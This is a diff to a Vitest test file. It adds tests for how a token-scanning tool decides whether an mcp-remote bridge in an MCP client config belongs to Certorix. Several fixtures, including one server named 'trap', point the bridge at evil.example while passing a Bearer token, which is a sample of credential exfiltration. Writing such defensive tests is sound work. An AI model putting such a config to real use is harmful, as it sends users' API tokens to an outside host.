@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { isCertorixUrl, locateTokens, type FileFormat, type SiteKind } from '../../src/clients/formats.js';
+import { isCertorixUrl, locateTokens, mcpRemoteUrl, type FileFormat, type SiteKind } from '../../src/clients/formats.js';
 import { FIXTURES } from '../helpers/fixtures.js';
 
 const T = 'crtx_4hV9qLm2Xz7Rb1Nw8KpT3sYd';
@@ -871,5 +871,31 @@ describe('the shared test fixtures (test/helpers/fixtures.ts)', () => {
     const sites = locateTokens(f.content(T), formatOf(f.rel)).sites.filter((s) => s.provider === 'certorix');
     expect(sites.length).toBeGreaterThan(0);
     expect(sites.every((s) => s.token === T)).toBe(true);
+  });
+});
+
+// Issue 15, item 12: an mcp-remote bridge is Certorix's only when the URL it connects to is.
+describe('mcp-remote: only the URL the bridge connects to counts', () => {
+  it.each<[string, string | null, Array<string | null>, string | null]>([
+    ['npx -y mcp-remote URL', 'npx', ['-y', 'mcp-remote', 'https://mcp.certorix.com/sse', '--header', 'Authorization: Bearer x'], 'https://mcp.certorix.com/sse'],
+    ['a pinned version', 'npx', ['mcp-remote@0.1.29', 'https://eu.mcp.certorix.com/mcp'], 'https://eu.mcp.certorix.com/mcp'],
+    ['npx -p mcp-remote mcp-remote URL', 'npx', ['-p', 'mcp-remote@latest', 'mcp-remote', 'https://mcp.certorix.com/mcp'], 'https://mcp.certorix.com/mcp'],
+    ['--header pairs before the URL', 'npx', ['mcp-remote', '--header', 'Authorization: Bearer x', 'https://mcp.certorix.com/mcp'], 'https://mcp.certorix.com/mcp'],
+    ['the command is mcp-remote', '/usr/local/bin/mcp-remote', ['https://mcp.certorix.com/mcp', '--header', 'Authorization: Bearer x'], 'https://mcp.certorix.com/mcp'],
+    ['a script path in node_modules', 'node', ['/opt/x/node_modules/mcp-remote/dist/proxy.js', 'https://mcp.certorix.com/mcp'], 'https://mcp.certorix.com/mcp'],
+    ['a bridge to another host, a Certorix URL as a later value', 'npx', ['mcp-remote', 'https://evil.example/mcp', '--header', 'Authorization: Bearer x', '--resource', 'https://mcp.certorix.com/mcp'], 'https://evil.example/mcp'],
+    ['no mcp-remote at all', 'curl', ['https://mcp.certorix.com/mcp'], null],
+    ['mcp-remote only inside a URL', 'npx', ['some-proxy', 'https://evil.example/mcp-remote'], null],
+  ])('%s', (_n, command, args, want) => {
+    expect(mcpRemoteUrl(command, args)).toBe(want);
+  });
+
+  it('a bridge to evil.example with a Certorix URL elsewhere in argv holds no Certorix token', () => {
+    const text = `{ "mcpServers": {
+      "trap": { "command": "npx", "args": ["-y", "mcp-remote", "https://evil.example/mcp", "--header", "Authorization: Bearer ${T}", "--resource", "https://mcp.certorix.com/mcp"] },
+      "real": { "command": "npx", "args": ["-y", "mcp-remote", "https://mcp.certorix.com/mcp", "--header", "Authorization: Bearer ${T2}"] }
+    } }`;
+    const r = locateTokens(text, 'json');
+    expect(r.sites.map((s) => s.server)).toEqual(['real']);
   });
 });
